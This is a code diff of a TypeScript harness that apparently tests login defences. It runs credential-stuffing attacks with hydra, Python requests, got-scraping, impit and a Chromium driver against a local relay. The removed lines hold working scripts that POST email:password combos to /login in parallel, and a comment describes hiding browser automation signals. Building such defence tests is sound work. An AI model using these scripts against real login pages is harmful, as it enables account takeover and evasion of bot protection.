@@ -35,7 +35,7 @@ export async function attackWithTool(attack: ToolAttack, place: AttackPlace): Pr
   await writeFile(join(folder, "combos"), listed);
   try {
     if (attack.tool === "chromium") await driveBrowsers(attack, relay.port);
-    else await runProgram(await commandOf(attack, relay.port, folder), folder, attack.withinMs);
+    else await runProgram(commandOf(attack, relay.port), folder, attack.withinMs);
   } finally {
     relay.stop();
     await rm(folder, { recursive: true, force: true });
@@ -54,11 +54,7 @@ async function runProgram(command: readonly string[], cwd: string, withinMs: num
   await child.exited;
 }
 
-async function commandOf(
-  { parallel, tool }: ToolAttack,
-  port: number,
-  folder: string,
-): Promise<readonly string[]> {
+function commandOf({ parallel, tool }: ToolAttack, port: number): readonly string[] {
   const url = `http://127.0.0.1:${port}`;
   switch (tool) {
     case "hydra": {
@@ -92,68 +88,14 @@ async function commandOf(
         "ignore:code=422",
       ];
     case "python-requests":
-      await writeFile(join(folder, "attack.py"), pythonScript);
-      return ["python3", "attack.py", url, String(parallel)];
+      return ["python3", join(import.meta.dir, "attack-requests.py"), url, String(parallel)];
     case "got-scraping":
-    case "impit": {
-      const script = tool === "impit" ? impitScript : gotScript;
-      await writeFile(join(folder, "attack.mjs"), script(import.meta.dir));
-      return ["node", "attack.mjs", url, String(parallel)];
-    }
+    case "impit":
+      return ["node", join(import.meta.dir, `attack-${tool}.mjs`), url, String(parallel)];
     case "chromium":
       return [];
   }
 }
-
-const pythonScript = `
-import sys, requests
-from concurrent.futures import ThreadPoolExecutor
-url, parallel = sys.argv[1], int(sys.argv[2])
-def attempt(line):
-    email, password = line.rstrip("\\n").split(":", 1)
-    try:
-        requests.post(url + "/login", data={"email": email, "password": password}, allow_redirects=False, timeout=10)
-    except requests.RequestException:
-        pass
-with ThreadPoolExecutor(parallel) as pool:
-    list(pool.map(attempt, open("combos")))
-`;
-
-const loop = (send: string) => `
-import { readFileSync } from "node:fs";
-const [url, parallel] = process.argv.slice(2);
-const lines = readFileSync("combos", "utf8").trim().split("\\n");
-${send}
-await Promise.all(Array.from({ length: Number(parallel) }, async () => {
-  for (let line = lines.pop(); line !== undefined; line = lines.pop()) {
-    const [email, password] = line.split(":");
-    await attempt(email, password).catch(() => undefined);
-  }
-}));
-process.exit(0);
-`;
-
-/** Modules are found from here, whatever folder the script lies in. */
-const imported = (from: string, name: string) => `
-import { createRequire } from "node:module";
-import { pathToFileURL } from "node:url";
-const at = createRequire(${JSON.stringify(`${from}/attack.mjs`)});
-const module = await import(pathToFileURL(at.resolve("${name}")).href);
-`;
-
-const gotScript = (from: string) => `${imported(from, "got-scraping")}
-const { gotScraping } = module;
-${loop(`const attempt = (email, password) => gotScraping({ url: url + "/login", method: "POST", form: { email, password },
-  followRedirect: false, throwHttpErrors: false, retry: { limit: 0 }, timeout: { request: 10000 }, http2: false });`)}`;
-
-const impitScript = (from: string) => `${imported(from, "impit")}
-const { Impit } = module.default ?? module;
-const browser = () => new Impit({ browser: "chrome", followRedirects: false, timeout: 10000 });
-${loop(`const attempt = async (email, password) => {
-  const answer = await browser().fetch(url + "/login", { method: "POST",
-    headers: { "content-type": "application/x-www-form-urlencoded" }, body: new URLSearchParams({ email, password }).toString() });
-  await answer.text();
-};`)}`;
 
 /** Real browsers that type into the real form, with what gives automation away switched off. */
 async function driveBrowsers({ pairs, parallel, withinMs }: ToolAttack, port: number): Promise<void> {
